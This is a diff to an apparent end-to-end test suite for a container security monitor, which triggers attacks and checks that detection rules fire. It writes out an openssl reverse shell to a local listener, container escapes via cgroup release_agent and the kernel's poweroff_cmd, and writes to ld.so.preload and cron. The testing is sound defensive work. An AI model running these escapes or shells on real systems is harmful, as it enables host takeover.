@@ -11,7 +11,7 @@ import signal
 import subprocess
 import unittest
 
-from harness import Listener
+from harness import PATIENCE, Listener
 from watched import Watched
 
 SHELL = "Reverse shell"
@@ -62,7 +62,7 @@ SHELLS = {
 # process of the node; /host: a directory of the node that looks like one.
 WAYS_OUT = {
     "release_agent": ("mkdir -p /tmp/cg && mount -t cgroup -o none,name=nezuban{unique} none /tmp/cg && "
-                      "exec 3<>/tmp/cg/release_agent; umount /tmp/cg",
+                      "exec 3<>/tmp/cg/release_agent; exec 3<&-; umount /tmp/cg",
                       "Container writes where the node's kernel takes a program from"),
     "poweroff_cmd": ("exec 3<>/proc/sys/kernel/poweroff_cmd",
                      "Container writes where the node's kernel takes a program from"),
@@ -117,7 +117,7 @@ class Techniques(Watched):
                 attacker = Listener()
                 self.addCleanup(attacker.close)
                 words = [word.format(port=attacker.port) for word in command]
-                container = self.container(*words, mounts=PROGRAMS)
+                container = self.container(*words, ro=PROGRAMS)
                 heard, _ = attacker.converse("echo $((6*7))")
                 self.assertIn("42", heard)
                 for rule in rules:
@@ -128,7 +128,7 @@ class Techniques(Watched):
         self.addCleanup(attacker.close)
         container = self.container(
             "/bin/sh", "-c", f"/bin/busybox mkfifo /tmp/f; /bin/sh -i </tmp/f 2>&1 | /usr/bin/openssl s_client "
-            f"-quiet -connect 127.0.0.1:{attacker.port} >/tmp/f", mounts=PROGRAMS)
+            f"-quiet -connect 127.0.0.1:{attacker.port} >/tmp/f", ro=PROGRAMS)
         attacker.accept()[0].close()
         self.expect(RELAY, container, container.id)
 
@@ -146,17 +146,17 @@ for attempt in range(300):
     except ConnectionRefusedError: time.sleep(0.05)
 s.sendall(b"echo $((6*7)); exit\\n")
 print(s.makefile().read())
-"""], check=True, capture_output=True, text=True)
+"""], check=True, capture_output=True, text=True, timeout=PATIENCE)
         self.assertIn("42", peer.stdout)
         self.expect(SHELL, container, container.id)
 
     def test_ways_out(self):
-        mounts = {**PROGRAMS, "/host": self.node()}
+        node = self.node()
         for number, (name, (script, rule)) in enumerate(WAYS_OUT.items()):
             with self.subTest(name):
                 unique = f"{os.getpid()}x{number}"
                 container = self.run_privileged(
-                    script.format(service=self.service.pid, unique=unique), mounts=mounts)
+                    script.format(service=self.service.pid, unique=unique), mounts={"/host": node}, ro=PROGRAMS)
                 self.expect(rule, container, container.id)
 
     def test_a_descriptor_that_was_left_open(self):
@@ -169,7 +169,7 @@ print(s.makefile().read())
     def test_deeds(self):
         for rule, script in DEEDS.items():
             with self.subTest(rule):
-                container = self.container("/bin/sh", "-c", script, mounts=PROGRAMS)
+                container = self.container("/bin/sh", "-c", script, ro=PROGRAMS)
                 container.finish()
                 self.expect(rule, container, container.id)
 
@@ -181,20 +181,39 @@ print(s.makefile().read())
             and all(a["output_fields"].get(name) == value for name, value in wanted.items()), rule)[0]
         self.assertEqual((found["container_id"], found["origin"]), ("host", "host"))
 
+    def open_for_writing(self, path):
+        """As who changes it would; its content and time stay, and what was not there is gone again."""
+        file = pathlib.Path(path)
+        if not file.parent.exists():
+            file.parent.mkdir()
+            self.addCleanup(file.parent.rmdir)
+        if not file.exists() or "nezuban-e2e" in path:
+            self.addCleanup(file.unlink, missing_ok=True)
+        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND | os.O_CLOEXEC, 0o644))
+
     def test_what_is_told_of_the_node(self):
         for rule, path in (("Start file of the node written by hand", "/etc/cron.d/nezuban-e2e"),
                            ("Monitor's files changed", "/etc/nezuban/nezuban-e2e"),
                            ("Preloaded library set", "/etc/ld.so.preload")):
-            file = pathlib.Path(path)
-            if file.exists():
-                continue  # somebody's own
-            made = not file.parent.exists()
-            file.parent.mkdir(exist_ok=True)
-            file.touch()
-            file.unlink()
-            if made:
-                file.parent.rmdir()
-            self.expect_on_node(rule, **({} if "Monitor" in rule else {"fd_name": path}))
+            with self.subTest(rule):
+                self.open_for_writing(path)
+                self.expect_on_node(rule, **({} if "Monitor" in rule else {"fd_name": path}))
+        with self.subTest("a signal"):
+            self.stop_for_a_moment()
+
+    def test_a_start_file_put_in_place(self):
+        rule, written = "Start file of the node written by hand", pathlib.Path("/etc/nezuban-e2e-written")
+        moved, linked = (pathlib.Path("/etc/cron.d") / f"nezuban-e2e-{name}" for name in ("moved", "linked"))
+        for file in written, moved, linked:
+            self.addCleanup(file.unlink, missing_ok=True)
+        moved.parent.mkdir(exist_ok=True)
+        written.write_text("# nothing\n")
+        linked.symlink_to(written)
+        written.rename(moved)
+        self.expect_on_node(rule, fs_path_source=str(linked))
+        self.expect_on_node(rule, fs_path_target=str(moved))
+
+    def stop_for_a_moment(self):
         os.kill(self.daemon.process.pid, signal.SIGSTOP)
         os.kill(self.daemon.process.pid, signal.SIGCONT)
         self.expect_on_node("Monitor signalled", evt_arg_sig="SIGSTOP")
